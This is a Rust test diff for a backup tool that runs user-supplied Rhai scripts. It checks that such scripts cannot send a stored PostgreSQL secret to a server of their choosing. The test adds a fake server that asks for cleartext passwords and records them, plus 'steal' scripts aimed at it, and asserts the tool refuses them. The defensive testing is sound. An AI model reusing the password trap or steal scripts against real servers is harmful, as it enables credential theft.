@@ -503,3 +503,133 @@ fn a_string_doubling_script_fails_cleanly_everywhere() {
     assert!(status.success(), "the host stopped cleanly: {status:?}");
     assert!(serve_dir.join("failed/double.log").is_file());
 }
+
+/// A server that asks whoever connects for their password in clear, as a hostile server
+/// would, and keeps what it is sent. `stop` returns everything received.
+struct PasswordTrap {
+    port: u16,
+    received: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
+    thread: Option<std::thread::JoinHandle<()>>,
+}
+
+impl PasswordTrap {
+    fn start() -> Self {
+        use std::io::Read;
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let kept = received.clone();
+        let thread = std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                // The startup message: a length, then the protocol and user, database, ...
+                let read_message = |stream: &mut std::net::TcpStream| -> Option<Vec<u8>> {
+                    let mut len = [0u8; 4];
+                    stream.read_exact(&mut len).ok()?;
+                    let mut body = vec![0u8; (u32::from_be_bytes(len) as usize).saturating_sub(4)];
+                    stream.read_exact(&mut body).ok()?;
+                    Some(body)
+                };
+                let Some(mut startup) = read_message(&mut stream) else {
+                    return; // the test's own wake-up connection: stop.
+                };
+                // An SSLRequest (80877103): "no TLS here", and the real startup follows.
+                if startup == [4, 210, 22, 47] {
+                    let _ = stream.write_all(b"N");
+                    let Some(next) = read_message(&mut stream) else {
+                        continue;
+                    };
+                    startup = next;
+                }
+                kept.lock().unwrap().extend_from_slice(&startup);
+                // AuthenticationCleartextPassword, then whatever comes back.
+                let _ = stream.write_all(b"R\0\0\0\x08\0\0\0\x03");
+                let mut answer = [0u8; 512];
+                if let Ok(n) = stream.read(&mut answer) {
+                    kept.lock().unwrap().extend_from_slice(&answer[..n]);
+                }
+            }
+        });
+        PasswordTrap {
+            port,
+            received,
+            thread: Some(thread),
+        }
+    }
+
+    fn stop(mut self) -> Vec<u8> {
+        // Wakes the accept loop with a connection that sends nothing.
+        drop(std::net::TcpStream::connect(("127.0.0.1", self.port)).unwrap());
+        self.thread.take().unwrap().join().unwrap();
+        std::mem::take(&mut *self.received.lock().unwrap())
+    }
+}
+
+/// A drop-in cannot send a secret to a server of its choosing: `protect` and
+/// `server_databases` use a secret only with a server an instance already logs in to with it.
+/// The same calls with the pairing the operator made still work.
+#[test]
+fn drop_ins_cannot_send_a_secret_to_another_server() {
+    let w = World::new();
+    let c = cluster();
+    w.vault_with_policy("V");
+    let db = sample_database("pairing", 10);
+    let secret = w.admin_secret(&db);
+    w.protect("V", &db, &secret);
+    let trap = PasswordTrap::start();
+    let dir = w.path("scripts");
+    let args = |server: &str| {
+        format!(
+            r#"#{{ datasource_type: "AzureDatabaseForPostgreSQLFlexibleServer", datasource_id: "postgres://{server}/{db}",
+                secret_store_type: "File", secret_store_uri: "{secret}" }}"#
+        )
+    };
+    let trap_server = format!("127.0.0.1:{}", trap.port);
+    let own_server = format!("{}:{}", c.host(), c.port());
+    drop_script(
+        &dir,
+        "steal-list.rhai",
+        &format!("server_databases({});", args(&trap_server)),
+    );
+    drop_script(
+        &dir,
+        "steal-protect.rhai",
+        &format!(
+            r#"let r = initialize_instance({});
+r.properties.policyInfo.policyId = vault("V").policy("OssPolicy").id;
+vault("V").protect(r);"#,
+            args(&trap_server).replace(
+                "secret_store_type",
+                r#"policy_id: "OssPolicy", secret_store_type"#
+            )
+        ),
+    );
+    drop_script(
+        &dir,
+        "list-own.rhai",
+        &format!(
+            "print(server_databases({}).contains(\"{db}\"));",
+            args(&own_server)
+        ),
+    );
+    let jobs = tick(&w, &dir, &[]);
+    let received = trap.stop();
+    assert!(
+        received.is_empty(),
+        "the hostile server was sent: {:?}",
+        String::from_utf8_lossy(&received)
+    );
+    for name in ["steal-list.rhai", "steal-protect.rhai"] {
+        assert_refused(
+            &jobs,
+            &dir,
+            name,
+            "UserErrorScriptNotAllowed",
+            "only with a server a backup instance already uses it with",
+        );
+    }
+    let ok = job_of(&jobs, "list-own.rhai");
+    assert_eq!(ok["properties"]["status"], "Completed", "{ok:#}");
+    let instances = w.json(&["backup-instance", "list", "--vault-name", "V"]);
+    assert_eq!(instances.as_array().unwrap().len(), 1, "{instances:#}");
+}
